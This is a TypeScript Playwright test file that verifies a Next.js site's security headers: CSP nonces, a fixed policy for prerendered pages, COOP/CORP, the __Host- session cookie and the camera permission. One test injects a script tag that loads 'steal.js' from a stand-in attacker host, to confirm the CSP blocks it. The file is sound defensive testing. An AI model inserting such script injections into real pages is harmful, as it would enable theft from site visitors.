import { readFileSync } from "node:fs";
import http from "node:http";
import path from "node:path";
import type { Page } from "@playwright/test";
import { isNoncePage, noncePages } from "@/lib/security/nonce-pages";
import { staticPolicyHeader, videoStudioPermissions } from "@/lib/security/headers";
import { e2eAdmin } from "../../playwright.config";
import { expect, openAdminTab, signInAdmin, test } from "./support";

// The CSP per page kind (lib/security/headers.ts): a fresh nonce on every page rendered per
// request; on prerendered pages, which must stay prerendered, one fixed policy, the same under
// `npm start`, plain `next start` and Vercel.

const manifest = (name: string) => JSON.parse(readFileSync(path.join(".next", name), "utf8"));
const prerendered = new Set(Object.keys(manifest("prerender-manifest.json").routes as Record<string, unknown>));
const pages = Object.entries(manifest("app-path-routes-manifest.json") as Record<string, string>)
  .filter(([entry, url]) => entry.endsWith("/page") && !url.includes("[") && !url.startsWith("/_"))
  .map(([, url]) => url);

const scriptSrc = (policy = "") =>
  policy
    .split(";")
    .map((part) => part.trim())
    .find((part) => part.startsWith("script-src "))
    ?.split(/\s+/)
    .slice(1) ?? [];
const nonceOf = (policy = "") => /'nonce-([^']+)'/.exec(policy)?.[1];

/** Collects CSP violations the page reports, from the first script on. */
async function watchViolations(page: Page) {
  const messages: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) messages.push(message.text());
  });
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      console.error(`Content Security Policy violation: ${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  return messages;
}

test("every page the build does not prerender gets a nonce policy, and only those", () => {
  const perRequest = pages.filter((url) => !prerendered.has(url)).sort();
  expect(perRequest.filter((url) => !isNoncePage(url))).toEqual([]);
  expect(pages.filter((url) => prerendered.has(url) && isNoncePage(url))).toEqual([]);
  expect(noncePages.filter((url) => !perRequest.includes(url))).toEqual([]);
});

for (const route of [...noncePages, "/admin/music", "/admin/nope"]) {
  test(`${route}: a fresh nonce per request, no 'unsafe-inline' scripts, and Next's scripts carry it`, async ({ request }) => {
    const first = await request.get(route);
    const second = await request.get(route);
    const policies = first.headersArray().filter((header) => header.name.toLowerCase() === "content-security-policy");
    expect(policies).toHaveLength(1);
    const [nonceA, nonceB] = [nonceOf(first.headers()["content-security-policy"]), nonceOf(second.headers()["content-security-policy"])];
    expect(nonceA).toMatch(/^[A-Za-z0-9+/]{22}==$/);
    expect(nonceB).not.toBe(nonceA);
    const scripts = scriptSrc(first.headers()["content-security-policy"]);
    expect(scripts).toContain("'strict-dynamic'");
    expect(scripts).not.toContain("'unsafe-inline'");
    const html = await first.text();
    expect(html).toContain(`nonce="${nonceA}"`);
    expect(html).not.toContain(`nonce="${nonceB}"`);
  });
}

test("prerendered pages stay prerendered, with the one fixed policy every deployment sends", async ({ request }) => {
  const staticPages = pages.filter((url) => prerendered.has(url));
  expect(staticPages).toEqual(expect.arrayContaining(["/", "/gallery", "/music", "/video-studio", "/contact"]));
  for (const route of staticPages) {
    const response = await request.get(route);
    expect(response.headers()["x-nextjs-prerender"], route).toMatch(/^1(, 1)*$/);
    expect(
      response.headersArray().filter((header) => header.name.toLowerCase() === "content-security-policy"),
      route,
    ).toHaveLength(1);
    // The same HTML for every visitor cannot carry a nonce, and Next.js inlines each page's data as
    // scripts: inline scripts are allowed, eval and every other script host are not.
    const policy = response.headers()["content-security-policy"] ?? "";
    // The same on the routes that may show ads while ads are off (tests/e2e/ads.spec.ts: on).
    expect(policy, route).toBe(staticPolicyHeader().value);
    expect(scriptSrc(policy).slice(0, 2), route).toEqual(["'self'", "'unsafe-inline'"]);
    expect(policy, route).not.toContain("'unsafe-eval'");
    expect(policy, route).toContain("object-src 'none'");
    expect(policy, route).toContain("frame-ancestors 'none'");
  }
});

test("a prerendered page does not load a script from another host, and its own scripts run", async ({ page }) => {
  const violations = await watchViolations(page);
  // As if the stored HTML had been tampered with: the server's headers, one more script from elsewhere.
  await page.route("**/gallery", async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace("</body>", '<script src="https://evil.example/steal.js"></script></body>');
    await route.fulfill({ response, body: html });
  });
  await page.goto("/gallery");
  await expect.poll(() => violations.length).toBeGreaterThan(0);
  for (const violation of violations) expect(violation).toMatch(/script-src/);
  // The theme script ran, and the page hydrated from its data scripts: the router follows a link.
  expect(await page.evaluate(() => document.documentElement.style.colorScheme)).toMatch(/^(dark|light)$/);
  await page.evaluate(() => ((window as Window & { stillHere?: boolean }).stillHere = true));
  await page.getByRole("navigation").first().getByRole("link", { name: "Our Music", exact: true }).click();
  await expect(page).toHaveURL(/\/music$/);
  expect(await page.evaluate(() => (window as Window & { stillHere?: boolean }).stillHere)).toBe(true);
});

test("no ad hosts anywhere while ads are off (ads.spec.ts switches them on), and COOP and CORP everywhere", async ({ request }) => {
  for (const route of ["/", "/gallery", "/quote", "/admin", "/notifications", "/api/admin/check", "/robots.txt"]) {
    const headers = (await request.get(route)).headers();
    expect(/googlesyndication|doubleclick|google\.com/.test(headers["content-security-policy"] ?? ""), route).toBe(false);
    expect(headers["content-security-policy"], route).toMatch(/^default-src 'self'/);
    expect(headers["cross-origin-opener-policy"], route).toBe("same-origin");
    expect(headers["cross-origin-resource-policy"], route).toBe("same-site");
  }
});

test("the video studio alone may use the camera, under the fixed policy", async ({ request }) => {
  const headers = (await request.get("/video-studio")).headers();
  expect(headers["permissions-policy"]).toBe(videoStudioPermissions.value);
  expect(headers["content-security-policy"]).toBe(staticPolicyHeader().value);
});

test("the session cookie is __Host-: Secure, Path=/, no Domain", async ({ playwright }) => {
  const api = await playwright.request.newContext();
  const response = await api.post("/api/admin/login", { data: e2eAdmin, headers: { origin: new URL(test.info().project.use.baseURL ?? "").origin } });
  expect(response.status()).toBe(200);
  const cookie = response.headersArray().find((header) => header.name.toLowerCase() === "set-cookie" && header.value.includes("next-auth.session-token="))?.value ?? "";
  expect(cookie).toMatch(/^__Host-next-auth\.session-token=/);
  expect(cookie).toMatch(/; Secure/i);
  expect(cookie).toMatch(/; Path=\/(;|$)/i);
  expect(cookie).not.toMatch(/; Domain=/i);
  await api.dispose();
});

test("the admin signs in and uses the tabs with no CSP violation", async ({ page }) => {
  const violations = await watchViolations(page);
  await signInAdmin(page);
  await expect(page.getByRole("heading", { name: "Admin Panel" })).toBeVisible();
  for (const name of ["Security", "Music"] as const) await openAdminTab(page, name);
  await page.goto("/notifications");
  await expect(page.locator("main")).toBeVisible();
  expect(violations).toEqual([]);
});

test("public pages run their scripts with no CSP violation", async ({ page }) => {
  const violations = await watchViolations(page);
  for (const route of ["/", "/gallery", "/music", "/contact", "/video-studio", "/newsletter/unsubscribe"]) {
    await page.goto(route);
    // The theme script ran (it sets color-scheme before the first paint).
    expect(await page.evaluate(() => document.documentElement.style.colorScheme), route).toMatch(/^(dark|light)$/);
  }
  // Hydrated: the client-side router follows a link without a full load.
  await page.goto("/");
  await page.evaluate(() => ((window as Window & { stillHere?: boolean }).stillHere = true));
  await page.getByRole("navigation").first().getByRole("link", { name: "Gallery", exact: true }).click();
  await expect(page).toHaveURL(/\/gallery$/);
  expect(await page.evaluate(() => (window as Window & { stillHere?: boolean }).stillHere)).toBe(true);
  expect(violations).toEqual([]);
});

test("a public page downloads no Zod until its form is used, and the form's checks cause no CSP violation", async ({ page }) => {
  const violations = await watchViolations(page);
  const zodScripts: string[] = [];
  page.on("response", async (response) => {
    if (response.request().resourceType() !== "script") return;
    // Zod's core names its base type in its error messages; no other script on the site does.
    if ((await response.text().catch(() => "")).includes("$ZodType")) zodScripts.push(response.url());
  });
  await page.goto("/contact");
  await page.waitForLoadState("networkidle");
  expect(zodScripts).toEqual([]);
  const form = page.getByRole("form", { name: "Send Message form" });
  await form.getByLabel("Full name").fill("Ada");
  await form.getByLabel("Email address").fill("not-an-email");
  await form.getByRole("button", { name: "Send Message" }).click();
  await expect(form.getByText("Please enter a valid email address")).toBeVisible();
  expect(zodScripts.length).toBeGreaterThan(0);
  expect(violations).toEqual([]);
});

test("an idle connection stays open 65 s, so a client or proxy reusing it is answered rather than reset", async ({ baseURL }) => {
  // Node's default is 5 s; a request on a connection the server drops at that moment was reset
  // (booking-payments.spec.ts failed once so in CI). The server states the time in Keep-Alive.
  const keepAlive = await new Promise<string | undefined>((resolve, reject) => {
    const agent = new http.Agent({ keepAlive: true });
    http
      .get(`${baseURL}/robots.txt`, { agent }, (response) => {
        response.resume();
        resolve(String(response.headers["keep-alive"]));
        agent.destroy();
      })
      .on("error", reject);
  });
  expect(keepAlive).toBe("timeout=65");
});
